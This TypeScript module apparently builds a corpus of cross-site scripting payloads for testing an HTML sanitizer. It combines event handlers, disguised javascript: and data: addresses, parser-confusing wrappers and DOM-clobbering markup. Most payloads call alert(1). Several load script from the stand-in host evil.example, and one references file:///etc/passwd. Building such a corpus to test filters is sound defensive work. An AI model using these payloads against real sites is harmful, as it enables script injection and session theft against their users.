import publicList from './publicPayloads.json' with { type: 'json' }

/**
 * Payloads of a public corpus, in `publicPayloads.json` with source and licence (MIT): what the Big List of Naughty
 * Strings has of markup and scripts, which includes most of OWASP's filter evasion list.
 */
export const publicHostileHtml: readonly string[] = publicList.payloads

/**
 * HTML that tries to run a script in a reader's browser, by the kinds that public cheat sheets describe: handlers on any
 * element, addresses with a script in them under every disguise, elements that load or parse something, foreign markup,
 * broken markup that parsers repair differently, and names that shadow what a page reads.
 */
export const hostileHtml = (): readonly string[] => [
  ...scripts,
  ...elements.flatMap((tag) => handlers.map((handler) => `<${tag} ${handler}=${call}>text</${tag}>`)),
  ...attributeDisguises.map((attribute) => `<p ${attribute}>text</p>`),
  ...addresses.flatMap((address) => [
    `<a href="${address}">text</a>`,
    `<a href='${address}' target=_blank>text</a>`,
    `<svg><a xlink:href="${address}"><text>text</text></a></svg>`,
    `<math><mtext><a href="${address}">text</a></mtext></math>`,
    `<form action="${address}"><button formaction="${address}">text</button></form>`,
    `<iframe src="${address}"></iframe><embed src="${address}"><object data="${address}"></object>`,
    `<base href="${address}"><link rel=stylesheet href="${address}"><meta http-equiv=refresh content="0;url=${address}">`,
  ]),
  ...wrappers.flatMap((wrap) => [wrap(script), wrap(picture), wrap(`<a href="javascript:${call}">text</a>`)]),
  ...broken,
]

const call = 'alert(1)'
const script = `<script>${call}</script>`
const picture = `<img src=x onerror=${call}>`

const elements =
  'a b p span div h2 li td th tr table img svg video audio body input textarea select details marquee style iframe object math xss custom-element'.split(
    ' ',
  )

const handlers =
  'onclick onerror onload onmouseover onfocus onanimationstart ontoggle ONCLICK onpointerrawupdate'.split(' ')

const scripts = [
  script,
  `<SCRIPT>${call}</SCRIPT>`,
  `<ScRiPt src=//evil.example/x.js></sCrIpT>`,
  `<script/x>${call}</script>`,
  `<script\n>${call}</script\n>`,
  `<script\t${call}>${call}</script>`,
  `<<script>${call}//<</script>`,
  `<script>${call}`,
  `<scr<script>ipt>${call}</scr</script>ipt>`,
  `<script type=module>import '//evil.example/x.js'</script>`,
  `<script>/*<!--<script>*/${call}</script>`,
  `<svg><script>${call}</script></svg>`,
  `<svg><script xlink:href=data:,${call} /></svg>`,
  `<math><script>${call}</script></math>`,
  `<noscript>${script}</noscript>`,
  `<template>${script}</template>`,
  `<p><template shadowrootmode=open>${script}</template></p>`,
  `\u0000<scr\u0000ipt>${call}</script>`,
  `%3Cscript%3E${call}%3C/script%3E`,
  `&lt;script&gt;${call}&lt;/script&gt;`,
  `\uff1cscript\uff1e${call}\uff1c/script\uff1e`,
  `+ADw-script+AD4-${call}+ADw-/script+AD4-`,
]

const attributeDisguises = [
  `/onclick=${call}`,
  `a=b/onclick=${call}`,
  `title="a"onclick="${call}"`,
  `title=\`a\` onclick=${call}`,
  `onclick\n=\n${call}`,
  `onclick&#61;${call}`,
  `\u000conclick=${call}`,
  `style="background:url(javascript:${call})"`,
  `style="width:expression(${call})"`,
  `style="behavior:url(#default#time2)" onbegin="${call}"`,
  `style="-moz-binding:url(//evil.example/x.xml)"`,
  `srcdoc="${script}"`,
  `is="x-evil" slot=s part=p`,
  `id=cookie name=cookie class=hidden`,
  `dangerouslysetinnerhtml="${call}" ref=x key=y`,
  `contenteditable autofocus tabindex=0 onfocus=${call}`,
  `lang='" onclick="${call}'`,
  `dir='"><script>${call}</script>'`,
  `title='"><img src=x onerror=${call}>'`,
  `xmlns="http://www.w3.org/2000/svg" href="javascript:${call}"`,
]

const addresses = [
  `javascript:${call}`,
  `JaVaScRiPt:${call}`,
  ` javascript:${call}`,
  `\u0001javascript:${call}`,
  `\u00a0javascript:${call}`,
  `\u2028javascript:${call}`,
  `\ufeffjavascript:${call}`,
  `java\tscript:${call}`,
  `java\nscript:${call}`,
  `java\r\nscript:${call}`,
  `java&#9;script:${call}`,
  `java&#x0A;script:${call}`,
  `java&Tab;script&colon;${call}`,
  `&#106;avascript:${call}`,
  `&#x6A&#x61&#x76&#x61script:${call}`,
  `&#0000106&#0000097vascript:${call}`,
  `javascript&#58;${call}`,
  `javascript&colon;//%0a${call}`,
  `javascript://evil.example/%0a${call}`,
  `javascript:/*--></title></style></textarea></script>*/${call}`,
  `jav\u0000ascript:${call}`,
  `\u0000javascript:${call}`,
  `vbscript:msgbox(1)`,
  `livescript:${call}`,
  `data:text/html,${encodeURIComponent(script)}`,
  `data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==`,
  `DATA:image/svg+xml,<svg onload=${call}>`,
  `blob:https://shop.example/1`,
  `filesystem:https://shop.example/temporary/x`,
  `file:///etc/passwd`,
  `view-source:javascript:${call}`,
  `feed:javascript:${call}`,
  `ms-appx-web://evil`,
  `intent://x#Intent;scheme=javascript;end`,
  `about:blank`,
  `x:y`,
  `ja${'\t'.repeat(50)}vascript:${call}`,
  `mhtml:javascript:${call}`,
]

const wrappers: readonly ((inner: string) => string)[] = [
  (inner) => `<p>${inner}</p>`,
  (inner) => `<ul><li>${inner}</ul>`,
  (inner) => `<table><tr><td>${inner}</table>`,
  (inner) => `<table>${inner}<tr><td>x</table>`,
  (inner) => `<select><option>${inner}</select>`,
  (inner) => `<select><style></select>${inner}</style>`,
  (inner) => `<style>${inner}</style>`,
  (inner) => `<style></style${'\u0000'}>${inner}</style>`,
  (inner) => `<title>${inner}</title>`,
  (inner) => `<textarea>${inner}</textarea>`,
  (inner) => `<textarea></textarea>${inner}`,
  (inner) => `<xmp>${inner}</xmp>`,
  (inner) => `<noembed>${inner}</noembed>`,
  (inner) => `<noframes></noframes>${inner}`,
  (inner) => `<plaintext>${inner}`,
  (inner) => `<iframe>${inner}</iframe>`,
  (inner) => `<iframe srcdoc='${inner}'></iframe>`,
  (inner) => `<!--${inner}-->`,
  (inner) => `<!-->${inner}-->`,
  (inner) => `<!--!>${inner}-->`,
  (inner) => `<!--x--!>${inner}`,
  (inner) => `<![CDATA[${inner}]]>`,
  (inner) => `<svg><![CDATA[${inner}]]></svg>`,
  (inner) => `<?xml ${inner} ?>`,
  (inner) => `<!doctype ${inner}>`,
  (inner) => `<svg><foreignObject>${inner}</foreignObject></svg>`,
  (inner) => `<svg><desc>${inner}</desc></svg>`,
  (inner) => `<svg></p><style><a id="</style>${inner}">`,
  (inner) => `<svg><style>${inner}</style></svg>`,
  (inner) => `<svg><animate onbegin=${call} attributeName=x dur=1s></animate>${inner}</svg>`,
  (inner) => `<math><mtext><table><mglyph><style><!--</style>${inner}--></style></mglyph></table></mtext></math>`,
  (inner) => `<math><annotation-xml encoding="text/html">${inner}</annotation-xml></math>`,
  (inner) => `<form><math><mtext></form><form><mglyph><style></math>${inner}`,
  (inner) => `<a href="/x">${'<b>'.repeat(40)}${inner}`,
  (inner) => `<div>${'<p>'.repeat(600)}${inner}`,
  (inner) => `<a><b><i><u><s>${inner}</a></b></i></u></s>`,
  (inner) => `<p title="${inner.replaceAll('"', '&quot;')}">${inner}</p>`,
  (inner) => `<dl><dt>${inner}<dd>${inner}</dl>`,
  (inner) => `<pre>\n\n${inner}</pre>`,
  (inner) => `<button><p>${inner}</button>`,
]

const broken = [
  `<p onclick=${call}`,
  `<a href="javascript:${call}`,
  `<a href=javascript:${call} href=/x>text</a>`,
  `<a href=/x href=javascript:${call}>text</a>`,
  `</p onclick=${call}>`,
  `<p/onclick=${call}/>`,
  `<p "onclick=${call}">`,
  `<p '"><script>${call}</script>`,
  `<img """><script>${call}</script>">`,
  `<a <script>${call}</script>>`,
  `<b <script>${call}//`,
  `<a href="/x" title="</a><script>${call}</script>">text</a>`,
  `<body/onload=${call}>`,
  `<html onload=${call}><head><script>${call}</script></head>`,
  `<frameset onload=${call}><frame src=javascript:${call}>`,
  `<isindex type=image src=x onerror=${call}>`,
  `<image src=x onerror=${call}>`,
  `<keygen autofocus onfocus=${call}>`,
  `<portal src=javascript:${call}></portal>`,
  `<dialog open onclose=${call}>text</dialog>`,
  `<slot onslotchange=${call}></slot>`,
  `<a id=location href=/x><a id=location name=href href="cid:x">text</a>`,
  `<form id=document><input name=cookie></form>`,
  `<p>${'&#x3c;'.repeat(20)}script&#x3e;${call}</p>`,
  `<ol start="1;${call}"><li>text</ol>`,
  `<td colspan="1 onclick=${call}">text</td>`,
  `<table><tr><th scope="row onclick=${call}" rowspan=99999>text</table>`,
  `${'<b>'.repeat(4000)}${script}`,
  `${'<'.repeat(500)}script>${call}`,
  `\ud83e<p>\udd7e${script}`,
]
